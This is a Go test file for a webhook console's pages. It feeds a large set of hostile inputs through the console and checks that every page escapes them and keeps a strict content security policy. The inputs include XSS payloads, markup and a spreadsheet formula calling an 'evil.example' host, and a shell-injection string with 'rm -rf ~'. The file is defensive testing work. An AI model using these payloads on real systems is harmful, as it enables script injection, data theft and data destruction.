package console_test

import (
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"hooktape/internal/event"
)

// hostile has texts that would have an effect if a page did not escape them.
var hostile = map[string]string{
	"script":               `<script>alert('pwned')</script>`,
	"closed attribute":     `"><script>alert('pwned')</script>`,
	"single quote":         `' onmouseover='alert(1)' x='`,
	"image":                `<img src=x onerror=alert('pwned')>`,
	"image from elsewhere": `<img src="http://evil.example/pixel.png">`,
	"svg":                  `<svg/onload=alert('pwned')>`,
	"iframe":               `<iframe src="javascript:alert('pwned')"></iframe>`,
	"style":                `<style>@import url(http://evil.example/x.css);*{display:none}</style>`,
	"link":                 `<link rel=stylesheet href=http://evil.example/x.css>`,
	"base":                 `<base href="http://evil.example/">`,
	"meta refresh":         `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
	"form":                 `</form><form action="http://evil.example/"><button>Replay</button></form>`,
	"htmx":                 `<div hx-get="http://evil.example/" hx-trigger="load"></div><div hx-post="/replays" hx-trigger="load"></div>`,
	"closed element":       `</td></tr></table></main></body></html>`,
	"comment":              `<!-- `,
	"closed title":         `</title></textarea></style></noscript><b>bold</b>`,
	"template action":      `{{.Secret}}{{template "login"}}`,
	"javascript URL":       `javascript:alert('pwned')`,
	"data URL":             `data:text/html,<script>alert('pwned')</script>`,
	"terminal escape":      "\x1b[2J\x1b]0;pwned\x07\x1b[31mred",
	"bidi override":        "user\u202egnp.exe\u2066\u2069",
	"zero width":           "pay\u200bpal\u2060\ufeff",
	"control characters":   "a\x00b\x01c\x08\x7f\u0085d",
	"line separators":      "one\u2028two\u2029three\r\nfour",
	"invalid UTF-8":        "caf\xe9 \xff\xfe \xc0\xaf",
	"tag characters":       "a\U000e0041\U000e0042",
	"private use":          "a\ue000b",
	"stacked marks":        "Z" + strings.Repeat("\u0310\u0321\u0334", 60) + "algo",
	"entity":               `&lt;script&gt;&#60;b&#62;&amp;`,
	"formula":              `=HYPERLINK("http://evil.example/","x")`,
	"shell":                "'; rm -rf ~ #`id` $(id)\n\\",
	"megabyte":             strings.Repeat("x", 1<<20),
	"deep":                 strings.Repeat("[", 5000) + strings.Repeat("]", 5000),
}

// hostileEvent returns an event with a text in every place that an outsider controls.
func hostileEvent(id, text string, ago time.Duration) event.Event {
	e := newEvent(text, ago)
	e.Step, e.Query, e.Path, e.Method = text, text, "/hooks/demo/***/"+text, text
	e.Headers = []event.Header{{Name: "X-" + text, Value: text}, {Name: text, Value: text}}
	e.BothelpUserID = id
	e.MessengerUserID = text
	e.MessengerUsername = text
	e.CUID = text
	e.Ref = text
	e.Name = text
	e.FirstName = text
	e.LastName = text
	e.Email = text
	e.Phone = text
	e.ProfileLink = text
	e.Channel = text
	e.UTMSource, e.UTMMedium, e.UTMCampaign, e.UTMContent, e.UTMTerm = text, text, text, text, text
	e.Fields, e.DecodeError = map[string]string{text: text, "plain": text}, text
	e.Kind, e.Verdict = event.KindFlow, event.Accepted
	return e
}

// hostileFixture has an event with each hostile text, all of one subscriber, and a replay to a receiver that answers
// with hostile text.
func hostileFixture(t *testing.T) (*fixture, event.Event, uuid.UUID) {
	f := newFixture(t)
	f.receiver.answers(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Evil", `<script>alert('pwned')</script>`)
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprint(w, hostile["image"]+hostile["terminal escape"]+hostile["bidi override"]+hostile["closed attribute"])
	})
	var events []event.Event
	// in order, so that each run checks the same pages; a megabyte on one line takes a browser seconds
	for _, name := range slices.Sorted(maps.Keys(hostile)) {
		text := hostile[name]
		ago := time.Minute + time.Duration(len(events))*time.Second
		e := hostileEvent("evil", text, ago)
		if name == "megabyte" { // no request can be larger
			e = hostileEvent("evil", text[:10_000], ago)
			e.Body, e.Name, e.Method, e.Headers = []byte(text), text, "POST", nil
		}
		e.Source = text[:min(len(text), 10_000)]
		events = append(events, e)
	}
	for name, text := range hostile { // anybody can post to an unknown source
		body := fmt.Sprintf(`{"name":%q,"phone":%[1]q,"messenger_username":%[1]q}`, text)
		e := newEvent(body, time.Minute)
		e.Step, e.Method = text, text
		e.Headers = append(e.Headers, event.Header{Name: "Content-Length", Value: fmt.Sprint(len(body))})
		e.Source, e.Verdict = text[:min(len(text), 10_000)], event.UnknownSource
		if name != "megabyte" {
			events = append(events, e)
		}
	}
	f.insert(events...)
	id := f.replayOf(f.login(adminSecret), "since=1h&endpoint=crm&mode=all")
	return f, events[0], id
}

// TestHostile shows every page with hostile text of all kinds.
func TestHostile(t *testing.T) {
	t.Parallel()
	if len(hostile) < 20 {
		t.Fatalf("only %d kinds of text", len(hostile))
	}
	f, e, replayed := hostileFixture(t)
	t.Run("HTML", func(t *testing.T) { f.on(t).testHostileHTML(e, replayed) })
	t.Run("Browser", func(t *testing.T) { f.on(t).testHostileText(e, replayed) })
}

// testHostileText verifies that no script of a text runs, no request goes to another host, no text creates an element,
// no page has characters that hide or reorder text, and no page is wider than a phone.
func (f *fixture) testHostileText(e event.Event, replayed uuid.UUID) {
	t := f.t
	b := f.browser(adminSecret)
	b.Resize(375, 740)
	looked := pages(e, replayed)
	list, err := f.db.Events(background, idsOf(t, f))
	if err != nil || len(list) != 2*len(hostile)-1 {
		t.Fatalf("%d events stored, %v", len(list), err)
	}
	for _, e := range list { // testHostileHTML checks the pages of the other events
		if slices.Contains([]string{hostile["script"], hostile["image"], hostile["htmx"], hostile["closed attribute"],
			hostile["control characters"], hostile["bidi override"], hostile["megabyte"], hostile["no UTF-8"]},
			string(e.Body)) {
			looked = append(looked, "/events/"+e.ID.String())
		}
	}
	looked = append(looked, "/?text="+"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/?step=%E2%80%AE%1B%5B2J",
		"/?field=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%3D1", "/nowhere/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"/?cursor=%3Cscript%3E", "/accept?rejected=true", "/subscribers/"+url.PathEscape(hostile["bidi override"]),
		"/subscribers/"+url.PathEscape(hostile["control characters"]), "/?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1",
		"/subscribers/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/replays?endpoint=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"/replays?endpoint=javascript:alert(1)", "/events/"+e.ID.String()+"?all=1")
	for _, page := range looked {
		b.Open(f.url + page)
		b.Await(`document.querySelector('h1') && !document.querySelector('[hx-trigger=load]:has(p.hint)')`)
		var wrong []string
		b.Script(`(() => {
			const wrong = []
			for (const e of document.querySelectorAll('script, iframe, img, style, base, object, embed, link, meta[http-equiv=refresh]'))
				if (!e.closest('head') || !(e.src || e.href || '').startsWith(location.origin + '/assets/')) wrong.push(e.outerHTML.slice(0, 200))
			for (const e of document.querySelectorAll('*')) for (const a of e.attributes) {
				if (a.name.startsWith('on') || a.name === 'style') wrong.push(a.name + ' of ' + e.outerHTML.slice(0, 200))
				if (['href', 'action', 'hx-get', 'hx-post', 'formaction', 'src'].includes(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) wrong.push(a.name + '=' + a.value.slice(0, 200))
				if (a.name === 'action' && !a.value.startsWith('/')) wrong.push('action=' + a.value)
			}
			const text = document.documentElement.textContent
			const bad = text.match(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/)
			if (bad) wrong.push('the character U+' + bad[0].charCodeAt(0).toString(16))
			if (document.documentElement.scrollWidth > 375) {
				const wide = [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > 376)
				wrong.push('wider than a phone: ' + wide.slice(0, 5).map(e => e.outerHTML.slice(0, 120)).join('\n  '))
			}
			return wrong
		})()`, &wrong)
		for _, w := range wrong {
			t.Errorf("%s: %s", page, w)
		}
	}
	f.assertClean(b)
}

// idsOf returns the ids of the events with the verdicts, or of all events without verdicts.
func idsOf(t *testing.T, f *fixture, verdicts ...event.Verdict) (ids []uuid.UUID) {
	t.Helper()
	events, err := f.db.ListEvents(background, event.Selection{Verdicts: verdicts}, pageOf(1000))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		ids = append(ids, e.ID)
	}
	return ids
}

// testHostileHTML checks the bytes of the pages, without the error correction of a browser.
func (f *fixture) testHostileHTML(e event.Event, replayed uuid.UUID) {
	t := f.t
	p := f.login(adminSecret)
	looked := append(pages(e, replayed), "/accept?rejected=true")
	for _, id := range idsOf(t, f, event.Accepted) { // rejected events have the same texts as source names
		looked = append(looked, "/events/"+id.String())
	}
	for _, path := range looked {
		a := p.get(path)
		if a.status != http.StatusOK || len(a.body) > 2<<20 {
			t.Errorf("%s: %d, %d bytes", path, a.status, len(a.body))
		}
		for _, markup := range []string{"<script>", "<img", "onerror=alert", "<iframe", "<style", "<base", "onload=",
			"\x1b", "\u202e", "\x00", `href="javascript`, "style=\""} {
			text := a.body
			if markup == "onerror=alert" || markup == "onload=" { // these are on the page as escaped text
				text = strings.NewReplacer("&lt;img src=x onerror=alert", "", "&lt;svg/onload=", "").Replace(text)
			}
			if strings.Contains(text, markup) {
				t.Errorf("%s contains %q", path, markup)
			}
		}
		if got := a.header.Get("Content-Security-Policy"); !strings.HasPrefix(got,
			"default-src 'none'; script-src 'self'; style-src 'self'") || strings.Contains(got, "unsafe") {
			t.Errorf("%s has the policy %q", path, got)
		}
	}
}

// serve starts a server and returns its URL.
func serve(t *testing.T, handler http.Handler) string {
	server := httptest.NewServer(handler)
	t.Cleanup(server.Close)
	return server.URL
}
